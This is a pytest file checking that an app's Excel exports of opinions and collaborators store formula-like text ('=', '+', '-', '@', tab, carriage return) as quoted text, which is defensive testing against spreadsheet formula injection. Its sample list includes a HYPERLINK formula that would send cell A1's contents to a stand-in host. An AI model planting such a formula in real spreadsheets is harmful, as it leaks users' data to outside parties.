"""Issue 22 case 5: free text that a spreadsheet would take for a formula ("=", "+", "-", "@",
a tab or a carriage return first) leaves every Excel export as a quoted text cell: no <f>
element in the sheet, the text exactly as typed, Excel's quote prefix set."""

from __future__ import annotations

import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from app import excel_text
from app.collaborators import registry
from app.collaborators.excel_export import export as export_collaborators
from app.opinions import items
from app.opinions.export import export_xlsx

HOSTILE = ['=HYPERLINK("http://x.invalid/?a="&A1,"Xem")', "+1+2 cộng", "-2+3 trừ", "@SUM(1) tổng",
           "\t=1+1 tab", "\r=1+1 cr"]


def _no_formulas(path: Path) -> list[openpyxl.cell.Cell]:
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name
    book = openpyxl.load_workbook(path)
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if excel_text.risky(c.value)]


def _check(cells: list, wanted: list[str]) -> None:
    found = {c.value.replace("\r\n", "\r"): c for c in cells}
    for text in wanted:
        cell = found.get(text) or next(c for v, c in found.items() if v.strip() == text.strip())
        assert cell.data_type == "s" and cell.quotePrefix, (text, cell.data_type)


def test_opinion_export(demo_ctx, tmp_path: Path) -> None:
    for text in HOSTILE:
        items.create(demo_ctx, items.Opinion(received_on=date.today().isoformat(), field="economy",
                                             summary=text, tendency="concern", proposal=text))
    path = tmp_path / "y-kien.xlsx"
    export_xlsx(demo_ctx, items.OpinionFilter(), path)
    _check(_no_formulas(path), HOSTILE)


def test_collaborator_export(demo_ctx, tmp_path: Path) -> None:
    for n, text in enumerate(HOSTILE):
        registry.create(demo_ctx, registry.Collaborator(full_name=f"Nguyễn Văn Thử {n}", workplace=text,
                                                        position=text))
    path = tmp_path / "ctv.xlsx"
    export_collaborators(demo_ctx, path)
    _check(_no_formulas(path), HOSTILE)


@pytest.mark.parametrize("text", HOSTILE + ["=1+1"])
def test_every_risky_start_is_quoted_text(tmp_path: Path, text: str) -> None:
    book = openpyxl.Workbook()
    book.active.append([text, "bình thường", 12, "a=b"])
    excel_text.defuse(book)
    book.save(tmp_path / "x.xlsx")
    cells = _no_formulas(tmp_path / "x.xlsx")
    assert len(cells) == 1 and cells[0].quotePrefix
    again = openpyxl.load_workbook(tmp_path / "x.xlsx").active
    assert again["B1"].quotePrefix is False and again["C1"].value == 12
